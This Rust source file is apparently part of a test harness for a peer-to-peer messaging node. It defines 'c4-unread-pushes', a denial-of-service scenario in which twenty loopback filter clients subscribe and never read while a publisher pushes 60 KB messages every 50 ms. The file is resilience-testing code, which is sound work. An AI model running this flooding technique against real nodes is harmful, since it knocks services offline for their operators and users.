//! Attack c4: filter clients that do not read pushed messages.

use std::net::Ipv4Addr;
use std::time::Duration;

use futures::FutureExt as _;
use tokio::time::sleep;

use super::{Attack, Price, nothing, with_services};
use crate::node::Target;
use crate::service_client::ServiceClient;
use crate::test_network::{prefix, pubsub_topic};
use crate::{HostileError, Tasks, TestNetwork, asks};

/// Number of clients that do not read, each with its own address.
const ATTACKERS: u8 = 20;
/// Payload of each pushed message, and the interval between messages.
const PAYLOAD_BYTES: usize = 60_000;
const INTERVAL: Duration = Duration::from_millis(50);
/// Number of messages, enough for ten minutes.
const MESSAGES_MAX: u32 = 12_000;
/// Number of subscriptions of each client, one every [`RENEWED`], enough for ten minutes.
const SUBSCRIPTIONS_MAX: u32 = 300;
const RENEWED: Duration = Duration::from_secs(2);
/// Duration of the attack before messages are counted.
const RISING: Duration = Duration::from_secs(3);

/// Attack c4: unread pushes.
pub const ATTACK: Attack = Attack {
    name: "c4-unread-pushes",
    about: "20 filter clients that never read are pushed 1.2 MB/s each, from 20 addresses",
    price: Price::Addresses(ATTACKERS as u32 + 1),
    options: with_services,
    start: |stage| start(stage).boxed(),
    then: nothing,
};

async fn start(stage: &mut TestNetwork) -> Result<Tasks, HostileError> {
    let target = stage.victim.target();
    let topic = format!("{}/unread/proto", prefix(0));
    let mut tasks = Tasks::default();
    for n in 0..ATTACKERS {
        let from = Ipv4Addr::new(127, 0, 24, n + 1);
        tasks.spawn(subscribe(from, target, topic.clone()));
    }
    tasks.spawn(publish(Ipv4Addr::new(127, 0, 24, 100), target, topic));
    sleep(RISING).await;
    Ok(tasks)
}

/// Publishes messages by lightpush, one after another.
pub(super) async fn publish(from: Ipv4Addr, target: Target, content_topic: String) {
    let mut ticks = tokio::time::interval(INTERVAL);
    ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    let mut writer: Option<ServiceClient> = None;
    for n in 0..MESSAGES_MAX {
        ticks.tick().await;
        if writer.is_none() {
            writer = ServiceClient::connect(from, target, None).await.ok();
        }
        let mut payload = vec![0; PAYLOAD_BYTES];
        payload[..4].copy_from_slice(&n.to_be_bytes());
        let push = asks::push(&pubsub_topic(0), &content_topic, payload);
        if let Some(connected) = &writer
            && connected.raw.ask(asks::LIGHTPUSH, &push).await.is_err()
        {
            writer = None;
        }
    }
}

async fn subscribe(from: Ipv4Addr, target: Target, content_topic: String) {
    let wanted = asks::subscribe(&pubsub_topic(0), [content_topic]);
    let mut client: Option<ServiceClient> = None;
    for _ in 0..SUBSCRIPTIONS_MAX {
        if client.is_none() {
            client = ServiceClient::connect(from, target, None).await.ok();
        }
        if let Some(connected) = &client
            && connected.raw.ask(asks::FILTER, &wanted).await.is_err()
        {
            client = None;
        }
        sleep(RENEWED).await;
    }
}
